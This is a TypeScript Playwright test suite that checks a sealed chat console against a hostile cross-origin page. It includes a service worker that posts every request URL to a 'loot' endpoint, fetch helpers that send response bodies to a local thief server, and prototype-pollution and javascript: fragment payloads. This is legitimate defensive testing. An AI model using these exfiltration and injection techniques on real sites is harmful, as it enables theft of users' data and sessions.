import './fakes/unwatched.ts'
import { readFile } from 'node:fs/promises'
import type { Page } from 'playwright-core'
import t, { type Test } from 'tap'
import { backend } from './contracts/stage.ts'
import { type Mark, newCanary } from './fakes/canary.ts'
import { withoutChromium } from './fakes/chromium.ts'
import { type Tab, browsing, hostile } from './fakes/console-stage.ts'
import { type Dumped, dumped } from './fakes/dumped.ts'
import type { Asked, Recorded, Take } from './fakes/recorded.ts'
import { scripted } from './fakes/scripted.ts'
import { until } from './until.ts'

interface Scene {
  readonly gateway: Dumped
  readonly mark: Mark
  /** What the enclave asks. */
  readonly backend: Recorded
  /** The server of the hostile page: it takes whatever a page sends there. */
  readonly thief: Recorded
  /** The hostile page in the browser of the reader; its site is another one. */
  readonly outside: Page
  /** The playground of the reader, with a chat. */
  readonly inside: Tab
}

const polluting = '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}'

/** A page that sends its thief what it can name, and a worker that sends it every request. */
const hostilePage = ({ path }: Asked): Take => {
  if (path === '/worker.js')
    return {
      headers: { 'content-type': 'text/javascript' },
      body: `addEventListener('activate', (e) => e.waitUntil(clients.claim()))
        addEventListener('fetch', ({ request }) => void fetch('/loot', { method: 'POST', body: request.url }))`,
    }
  return { headers: { 'content-type': 'text/html' }, body: '<!doctype html><title>elsewhere</title><body></body>' }
}

const outsideOf = ({ thief }: Pick<Scene, 'thief'>): string => thief.url.replace('127.0.0.1', 'localhost')

const scriptOf = ({ inside }: Scene): Promise<string> =>
  inside.page.evaluate(() => document.querySelector<HTMLLinkElement>('link[href$="/sealed/playground.js"]')?.href ?? '')

/** How each request of the hostile page ends: its status where the page may read it, and `refused` otherwise. */
const read = (page: Page, urls: readonly string[], init: RequestInit): Promise<readonly (number | string)[]> =>
  page.evaluate(
    ([urls, init]) =>
      Promise.all(
        urls.map((url) =>
          fetch(url, init).then(
            async (answer) => {
              await fetch('/loot', { method: 'POST', body: await answer.text() })
              return answer.status
            },
            () => 'refused',
          ),
        ),
      ),
    [urls, init] as const,
  )

const attacks: Readonly<Record<string, (t: Test, scene: Scene) => Promise<void>>> = {
  async window(t, { gateway, outside, inside }) {
    const opens = outside.waitForEvent('popup')
    await outside.evaluate((url) => {
      Object.assign(globalThis, { victim: open(url, 'victim') })
    }, `${gateway.base}/console#/sealed`)
    const popup = await opens
    await popup.waitForSelector('h1 >> text=Sealed playground')
    const held = await outside.evaluate(() => {
      const { victim } = globalThis as unknown as { victim: Window }
      victim.postMessage('give', '*')
      victim.location.href = '/taken'
      return victim.closed
    })
    t.equal(held, true, 'the opener holds a closed window')
    t.same(
      await popup.evaluate(() => [opener, name, location.hash]),
      [null, '', '#/sealed'],
      'the window has no opener and no name, and stays where it is',
    )
    const again = outside.waitForEvent('popup')
    await outside.evaluate(() => void open('', 'victim'))
    const other = await again
    t.equal(other.url(), 'about:blank', 'its name leads to a new window')
    await other.close()
    await popup.close()
    t.match(await inside.page.innerText('h1'), 'Sealed playground')
  },
  async frame(t, scene) {
    const { gateway, outside } = scene
    await outside.evaluate(async (url) => {
      for (const tag of ['iframe', 'embed']) {
        const frame = Object.assign(document.createElement(tag), { src: url, data: url })
        const ends = new Promise((resolve) =>
          ['load', 'error'].forEach((text) => frame.addEventListener(text, resolve)),
        )
        document.body.append(frame)
        await Promise.race([ends, new Promise((resolve) => setTimeout(resolve, 2_000))])
      }
    }, `${gateway.base}/console#/sealed`)
    const urls = () =>
      outside
        .frames()
        .filter((frame) => frame !== outside.mainFrame() && !frame.isDetached())
        .map((frame) => frame.url())
    await until(() => urls().every((url) => url.startsWith('chrome-error:')))
    t.same(
      urls(),
      ['chrome-error://chromewebdata/', 'chrome-error://chromewebdata/'],
      'the browser shows an error in place of the console',
    )
  },
  async read(t, scene) {
    const { gateway, outside } = scene
    const paths = ['/console', '/v1/models', '/admin/self', '/rvenc/attestation', '/files/encrypted', '/tools']
    const urls = [await scriptOf(scene), ...paths.map((path) => gateway.base + path)]
    const refused = urls.map(() => 'refused')
    for (const credentials of ['include', 'omit'] as const)
      t.same(await read(outside, urls, { credentials }), refused, `fetched, ${credentials}`)
    const loaded = await outside.evaluate(async (url) => {
      const script = Object.assign(document.createElement('script'), { src: url })
      const ends = new Promise((resolve) => {
        for (const text of ['load', 'error']) script.addEventListener(text, () => resolve(text))
      })
      document.body.append(script)
      return ends
    }, urls[0]!)
    t.equal(loaded, 'error', 'no other origin loads a script of the playground')
  },
  async write(t, { gateway, thief, backend, outside, inside }) {
    const [cookie] = await inside.page.context().cookies()
    t.match(cookie, { httpOnly: true, sameSite: 'Strict', path: '/console/session' })
    const before = backend.asked.length
    const statuses: number[] = []
    outside.on('response', (answer) => void (answer.url().startsWith(gateway.base) && statuses.push(answer.status())))
    const urls = ['/console/session/renewal', '/console/session/key', '/rvenc/chat/completions', '/files/encrypted/upload']
      .map((path) => gateway.base + path) // prettier-ignore
    const written = (page: Page) =>
      read(page, urls, {
        method: 'POST',
        credentials: 'include',
        body: '{}',
        headers: { 'content-type': 'text/plain' },
      })
    const none = urls.map(() => 'refused')
    t.same(await written(outside), none, 'of another site')
    // Browsers keep cookies by host and not by port, so this page sends the cookie.
    await outside.goto(thief.url)
    t.same(await written(outside), none, 'of the same site')
    await read(outside, urls, { method: 'POST', credentials: 'include', mode: 'no-cors', body: '{}' })
    const posted = outside.waitForURL(urls[0]!)
    await outside.evaluate((action) => {
      const form = Object.assign(document.createElement('form'), { method: 'post', action })
      document.body.append(form)
      form.submit()
    }, urls[0]!)
    await posted
    t.ok(statuses.length >= urls.length && statuses.every((status) => status === 401), `${statuses}`)
    t.equal(backend.asked.length, before, 'nothing is asked')
  },
  async worker(t, scene) {
    const { gateway, outside, inside, thief } = scene
    const registered = await outside.evaluate(
      async (script) => {
        const { serviceWorker } = navigator
        await serviceWorker.register('/worker.js')
        await serviceWorker.ready
        return serviceWorker.register(script).then(
          () => 'taken',
          (error: Error) => error.name,
        )
      },
      await scriptOf(scene),
    )
    t.equal(registered, 'SecurityError', 'a page registers workers of its own origin alone')
    await outside.goto(`${outsideOf(scene)}/seen`)
    await outside.reload()
    t.ok(
      thief.asked.some(({ body }) => body.toString().endsWith('/seen')),
      'the worker sees what its own page asks',
    )
    await inside.page.evaluate((url) => fetch(`${url}/console?unseen`), gateway.base)
    t.notOk(thief.asked.some(({ body }) => body.includes('unseen')))
    t.equal(await inside.page.evaluate(() => navigator.serviceWorker?.controller ?? null), null)
  },
  async history(t, scene) {
    const { gateway, outside, mark, thief } = scene
    await outside.evaluate((words) => void (window.name = words), hostile.key)
    await outside.evaluate((url) => void (location.href = url), `${gateway.base}/console#/sealed`)
    await outside.waitForSelector('h1 >> text=Sealed playground')
    t.equal(await outside.evaluate(() => name), '', 'the name of a window stays behind')
    await outside.evaluate((words) => void (window.name = words), mark('name'))
    await outside.locator('textarea').first().fill(mark('typed'))
    const before = thief.asked.length
    await outside.evaluate((url) => void (location.href = url), `${outsideOf(scene)}/landed`)
    await outside.waitForURL('**/landed')
    t.same(await outside.evaluate(() => [name, document.referrer]), ['', ''], 'and nothing comes along')
    const landings = thief.asked.slice(before).filter(({ path }) => path === '/landed')
    t.same(
      landings.map(({ headers }) => headers.referer),
      [undefined],
    )
    await outside.goBack()
    await outside.waitForSelector('h1 >> text=Sealed playground')
    t.notMatch(await outside.content(), mark('answer'), 'the way back shows no chat of another tab')
    const session = await outside.context().newCDPSession(outside)
    const { entries } = await session.send('Page.getNavigationHistory')
    const told = JSON.stringify(entries)
    for (const secret of [gateway.key, 'sk_console_', mark('')])
      t.notOk(told.includes(secret), 'no address tells a key')
  },
  async fragment(t, { gateway, inside }) {
    const { page } = inside
    for (const hash of [
      `#/sealed/${hostile.model}?x=${encodeURIComponent(hostile.key)}`,
      '#/sealed?__proto__[polluted]=1&constructor.prototype.polluted=1',
      '#/__proto__',
      '#/constructor/prototype',
      '#javascript:globalThis.owned=1',
      `#link=${hostile.model}`,
      `#/${'%'.repeat(99)}`,
    ]) {
      await page.evaluate((hash) => void (location.hash = hash), hash)
      await page.waitForSelector('main:not([aria-busy]) h1')
      t.same(await page.evaluate(() => ['owned' in globalThis, 'polluted' in {}]), [false, false], hash.slice(0, 40))
    }
    await page.goto('about:blank')
    await page.goto(`${gateway.base}/console#/sealed?q=${encodeURIComponent(hostile.key)}`)
    await page.waitForSelector('h1 >> text=Sealed playground')
    t.equal(await page.evaluate(() => 'owned' in globalThis), false)
  },
  async answer(t, scene) {
    const { inside, mark } = scene
    await playing(scene, `again ${mark('again')}`)
    const { page } = inside
    t.ok((await page.getByLabel('Answered').innerText()).includes(polluting), 'an answer is text')
    const options = await page.getByLabel('Model', { exact: true }).locator('option').allInnerTexts()
    t.same(options, ['a-model', hostile.model, 'toString'].toSorted(), 'and so is the name of a model')
    t.same(
      await page.evaluate(() => [
        'owned' in globalThis,
        'polluted' in {},
        document.querySelectorAll('main img').length,
      ]),
      [false, false, 0],
    )
  },
}

/** A sealed chat of the reader. */
const playing = async ({ inside, mark }: Pick<Scene, 'inside' | 'mark'>, words: string): Promise<void> => {
  const { page } = inside
  await page.getByRole('checkbox').first().check()
  await page.getByText('A development enclave: it proves nothing').first().waitFor()
  await page.getByLabel('Message').fill(words)
  await page.getByRole('button', { name: 'Send sealed' }).click()
  await page.getByLabel('Answered').getByText(mark('answer')).waitFor()
}

t.test('a page of another origin against the sealed playground', { skip: withoutChromium }, async (t) => {
  t.setTimeout(100_000)
  const [, , , table = ''] = (await readFile('docs/console.md', 'utf8')).split(/^## What could be tried against .*$/m)
  const rows = [...table.matchAll(/^\| `([^`]+)` \|/gm)].map(([, name]) => name)
  t.same(rows, Object.keys(attacks), 'the table and the tests are the same')
  const { mark, root } = newCanary()
  const asked = await backend(t, scripted(() => [{ say: `${hostile.model}${polluting} ${mark('answer')}` }])) // prettier-ignore
  const thief = await backend(t, hostilePage)
  const model = { standard: false, confidential: true, upstreams: [{ provider: 'backend', model: 'm' }] }
  const gateway = await dumped(t, t.testdir({ data: {} }), {
    providers: { backend: { use: 'openai', baseUrl: `${asked.url}/v1` } },
    models: { 'a-model': model, toString: model, [hostile.model]: model },
    tools: { getTime: {} },
  })
  const inside = await browsing(t)(gateway.base)
  await inside.signIn(gateway.key)
  await inside.go('#/sealed', 'Sealed playground')
  await playing({ inside, mark }, mark('prompt'))
  const outside = await inside.page.context().newPage()
  const scene: Scene = { gateway, mark, backend: asked, thief, outside, inside }
  for (const [name, attack] of Object.entries(attacks)) {
    await outside.goto(outsideOf(scene))
    await t.test(name, (t) => attack(t, scene))
  }
  await outside.goto(outsideOf(scene))
  await outside.evaluate(() => fetch('/loot', { method: 'POST', body: 'what the page could take' }))
  const cookie = (await inside.page.context().cookies()).find(({ httpOnly }) => httpOnly)
  const taken = thief.asked.map(({ path, headers, body }) => `${path} ${JSON.stringify(headers)} ${body}`).join('\n')
  t.match(taken, 'what the page could take', 'the thief takes what a page sends')
  for (const secret of [root, gateway.key, 'sk_console_']) t.notOk(taken.includes(secret), 'and nothing of the reader')
  t.notOk(taken.includes(cookie!.value), 'nor the cookie')
  t.same(inside.faults, [], 'the playground sends nothing elsewhere')
})
